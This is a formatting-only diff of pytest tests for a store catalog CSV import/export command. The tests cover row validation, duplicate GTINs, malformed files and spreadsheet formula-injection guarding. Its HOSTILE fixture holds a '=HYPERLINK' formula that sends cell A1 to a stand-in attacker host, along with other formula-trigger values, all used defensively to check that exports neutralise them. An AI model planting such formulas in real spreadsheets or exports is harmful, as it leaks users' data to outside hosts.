@@ -75,18 +75,27 @@ def test_import_creates_items_with_bom_and_audits_once(tmp_path):
 def test_one_bad_row_applies_nothing_and_reports_every_problem(tmp_path):
     db = make_hub(tmp_path / "hub")
     rows = GOOD + [
-        "BAD-1,,,,,each,12.50,0,,false,,0,0,,true",              # row 5: no name, price not whole
+        "BAD-1,,,,,each,12.50,0,,false,,0,0,,true",  # row 5: no name, price not whole
         "BAD-2,Thing,,,,box,100,0,5901234123458,maybe,,0,0,,true",  # row 6: unit, bad GTIN, bad bool
-        "MILK-1L,Milk again,,,,each,100,0,,false,,0,0,,true",     # row 7: SKU repeated
+        "MILK-1L,Milk again,,,,each,100,0,,false,,0,0,,true",  # row 7: SKU repeated
         "DUP-G,Dup gtin,,,,each,100,0,5901234123457,false,,0,0,,true",  # row 8: GTIN of row 2
-        "PLU2,Pears,,,,kg,900,0,,true,4131,0,0,,true",            # row 9: PLU of row 4
+        "PLU2,Pears,,,,kg,900,0,,true,4131,0,0,,true",  # row 9: PLU of row 4
     ]
     f = write(tmp_path / "bad.csv", rows)
     res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
     assert res.exit_code == 1
     out = res.output
-    for needle in ("row 5: name_en", "row 5: price_minor", "row 6: unit", "row 6: gtins", "row 6: variable_measure",
-                   "row 7: sku", "row 8: gtins", "row 9: plu", "nothing was imported"):
+    for needle in (
+        "row 5: name_en",
+        "row 5: price_minor",
+        "row 6: unit",
+        "row 6: gtins",
+        "row 6: variable_measure",
+        "row 7: sku",
+        "row 8: gtins",
+        "row 9: plu",
+        "nothing was imported",
+    ):
         assert needle in out, (needle, out)
     assert snapshot(db) == []
     assert db.read().execute("SELECT COUNT(*) FROM audit_log WHERE action='catalog.import'").fetchone()[0] == 0
@@ -95,8 +104,9 @@ def test_one_bad_row_applies_nothing_and_reports_every_problem(tmp_path):
 def test_gtin_owned_by_another_item_in_the_database(tmp_path):
     db = make_hub(tmp_path / "hub")
     with db.write() as conn:
-        catalog.create_item(conn, {"sku": "OLD", "name_en": "Old", "price_minor": 1, "gtins": ["5901234123457"]},
-                            actor="t")
+        catalog.create_item(
+            conn, {"sku": "OLD", "name_en": "Old", "price_minor": 1, "gtins": ["5901234123457"]}, actor="t"
+        )
     f = write(tmp_path / "x.csv", [GOOD[0]])
     res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
     assert res.exit_code == 1 and "GTIN 05901234123457 already belongs to OLD (the catalog)" in res.output
@@ -127,14 +137,17 @@ def test_dry_run_writes_nothing(tmp_path):
     assert snapshot(db) == []
 
 
-@pytest.mark.parametrize("content,needle", [
-    (b"", "the file is empty"),
-    (b"sku,name,price_minor\nA,x,1\n", "unknown column(s) name"),
-    (b"name_en,price_minor\nx,1\n", "a sku column is required"),
-    ("sku,name_en,price_minor\nA,\u725b\u5976,1\n".encode("gbk"), "not UTF-8"),
-    (b"sku,name_en,price_minor\nA,x,1,extra\n", "row 2: row: 1 cell(s) more"),
-    (b"sku,name_en,price_minor\n", "no rows under the header"),
-])
+@pytest.mark.parametrize(
+    "content,needle",
+    [
+        (b"", "the file is empty"),
+        (b"sku,name,price_minor\nA,x,1\n", "unknown column(s) name"),
+        (b"name_en,price_minor\nx,1\n", "a sku column is required"),
+        ("sku,name_en,price_minor\nA,\u725b\u5976,1\n".encode("gbk"), "not UTF-8"),
+        (b"sku,name_en,price_minor\nA,x,1,extra\n", "row 2: row: 1 cell(s) more"),
+        (b"sku,name_en,price_minor\n", "no rows under the header"),
+    ],
+)
 def test_malformed_files(tmp_path, content, needle):
     make_hub(tmp_path / "hub")
     f = tmp_path / "m.csv"
@@ -153,9 +166,25 @@ def _big_file(path: Path, n: int) -> Path:
         body = f"690{i:09d}"
         gtin = body + str(gs1_standard_check_digit(body))
         kg = i % 7 == 0
-        w.writerow([f"SKU-{i:05d}", f"Item {i}", f"商品 {i}", f"Brand {i % 40}", ["Grocery", "Produce", "Household"][i % 3],
-                    "kg" if kg else "each", 100 + i, 50 + i, gtin, "true" if kg else "false",
-                    str(10000 + i) if kg else "", i % 5, i % 9, "" if kg else 100 + i % 900, "true" if i % 50 else "false"])
+        w.writerow(
+            [
+                f"SKU-{i:05d}",
+                f"Item {i}",
+                f"商品 {i}",
+                f"Brand {i % 40}",
+                ["Grocery", "Produce", "Household"][i % 3],
+                "kg" if kg else "each",
+                100 + i,
+                50 + i,
+                gtin,
+                "true" if kg else "false",
+                str(10000 + i) if kg else "",
+                i % 5,
+                i % 9,
+                "" if kg else 100 + i % 900,
+                "true" if i % 50 else "false",
+            ]
+        )
     path.write_text(buf.getvalue(), encoding="utf-8")
     return path
 
@@ -187,22 +216,41 @@ def test_export_import_through_the_installed_command(tmp_path):
     make_hub(tmp_path / "hub")
     f = write(tmp_path / "a.csv", GOOD)
     exe = str(ROOT / ".venv" / "bin" / "storehub")
-    p = subprocess.run([exe, "catalog", "import", str(f), "--data-dir", str(tmp_path / "hub")], capture_output=True,
-                       text=True, timeout=60)
+    p = subprocess.run(
+        [exe, "catalog", "import", str(f), "--data-dir", str(tmp_path / "hub")],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert p.returncode == 0, p.stderr
-    p = subprocess.run([exe, "catalog", "export", str(tmp_path / "e.csv"), "--data-dir", str(tmp_path / "hub"),
-                        "--no-bom"], capture_output=True, text=True, timeout=60)
+    p = subprocess.run(
+        [exe, "catalog", "export", str(tmp_path / "e.csv"), "--data-dir", str(tmp_path / "hub"), "--no-bom"],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert p.returncode == 0, p.stderr
     rows = list(csv.DictReader(open(tmp_path / "e.csv", encoding="utf-8", newline="")))
     assert [r["sku"] for r in rows] == ["APPLE", "MILK-1L", "RICE-5KG"]
     assert rows[2]["gtins"] == "00000096385074;00012345678905" and rows[0]["variable_measure"] == "true"
-    p = subprocess.run([exe, "catalog", "import", str(write(tmp_path / "b.csv", ["X,,,,,each,1,0,,,,0,0,,"])),
-                        "--data-dir", str(tmp_path / "hub")], capture_output=True, text=True, timeout=60)
+    p = subprocess.run(
+        [
+            exe,
+            "catalog",
+            "import",
+            str(write(tmp_path / "b.csv", ["X,,,,,each,1,0,,,,0,0,,"])),
+            "--data-dir",
+            str(tmp_path / "hub"),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert p.returncode == 1 and "row 2: name_en" in p.stderr
 
 
 # ---------------------------------------------------------------- spreadsheet formula injection
-HOSTILE = {   # sku -> (name_en, name_zh, brand, category)
+HOSTILE = {  # sku -> (name_en, name_zh, brand, category)
     "=HYPERLINK": ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(1+1)"),
     "Q-PLAIN": ("'quoted but harmless", "''=already quoted twice", "'@mention", "'-minus"),
     "-SKU": ("Normal name", "正常", "Brand", "Grocery"),
@@ -222,8 +270,18 @@ def test_formula_guard_rule_is_its_own_inverse():
 def test_unstorable_text_is_a_row_error_and_nothing_is_imported(tmp_path):
     """Issue 11, hole 1: a cell with NUL (which the central's PostgreSQL cannot keep) is refused with its row."""
     db = make_hub(tmp_path / "hub")
-    text = "\n".join([HEADER, GOOD[0], "BAD-1,Bad\x00name,,,,each,100,50,,false,,0,0,,true",
-                      "BAD\x002,Other,,,Dairy\x00,each,100,50,,false,,0,0,,true", GOOD[2]]) + "\n"
+    text = (
+        "\n".join(
+            [
+                HEADER,
+                GOOD[0],
+                "BAD-1,Bad\x00name,,,,each,100,50,,false,,0,0,,true",
+                "BAD\x002,Other,,,Dairy\x00,each,100,50,,false,,0,0,,true",
+                GOOD[2],
+            ]
+        )
+        + "\n"
+    )
     plan = catalog_csv.plan_import(db.read(), text)
     assert [(e.row, e.field) for e in plan.errors] == [(3, "name_en"), (4, "category"), (4, "sku")]
     assert all("U+0000" in e.message for e in plan.errors)
@@ -237,8 +295,11 @@ def test_export_neutralises_formulas_and_import_round_trips_them(tmp_path):
     db1 = make_hub(tmp_path / "hub1")
     with db1.write() as conn:
         for sku, (en, zh, brand, cat) in HOSTILE.items():
-            catalog.create_item(conn, {"sku": sku, "name_en": en, "name_zh": zh, "brand": brand, "category": cat,
-                                       "price_minor": 100}, actor="test")
+            catalog.create_item(
+                conn,
+                {"sku": sku, "name_en": en, "name_zh": zh, "brand": brand, "category": cat, "price_minor": 100},
+                actor="test",
+            )
     out = tmp_path / "export.csv"
     assert invoke("catalog", "export", out, "--data-dir", tmp_path / "hub1", "--no-bom").exit_code == 0
     rows = list(csv.reader(open(out, encoding="utf-8", newline="")))
@@ -250,9 +311,9 @@ def test_export_neutralises_formulas_and_import_round_trips_them(tmp_path):
     by_sku = {r[0]: dict(zip(header, r)) for r in rows[1:]}
     assert by_sku["'=HYPERLINK"]["name_en"].startswith("'=HYPERLINK(")
     assert by_sku["'=HYPERLINK"]["name_zh"] == "'+1+1" and by_sku["'=HYPERLINK"]["category"] == "'@SUM(1+1)"
-    assert by_sku["Q-PLAIN"]["name_en"] == "'quoted but harmless"          # no trigger after the quote: as is
-    assert by_sku["Q-PLAIN"]["name_zh"] == "'''=already quoted twice"      # one more quote, removed on import
-    assert by_sku["'-SKU"]["price_minor"] == "100"                          # numbers are never quoted
+    assert by_sku["Q-PLAIN"]["name_en"] == "'quoted but harmless"  # no trigger after the quote: as is
+    assert by_sku["Q-PLAIN"]["name_zh"] == "'''=already quoted twice"  # one more quote, removed on import
+    assert by_sku["'-SKU"]["price_minor"] == "100"  # numbers are never quoted
     db2 = make_hub(tmp_path / "hub2")
     res = invoke("catalog", "import", out, "--data-dir", tmp_path / "hub2")
     assert res.exit_code == 0, res.output
@@ -271,5 +332,10 @@ def test_hand_made_file_with_guard_quotes_imports_the_plain_values(tmp_path):
     res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
     assert res.exit_code == 0, res.output
     item = snapshot(db)[0]
-    assert (item["sku"], item["name_en"], item["name_zh"], item["brand"], item["category"]) == \
-        ("=SKU-1", "+44 tea", "'plain quote", "@brand", "-cat")
+    assert (item["sku"], item["name_en"], item["name_zh"], item["brand"], item["category"]) == (
+        "=SKU-1",
+        "+44 tea",
+        "'plain quote",
+        "@brand",
+        "-cat",
+    )
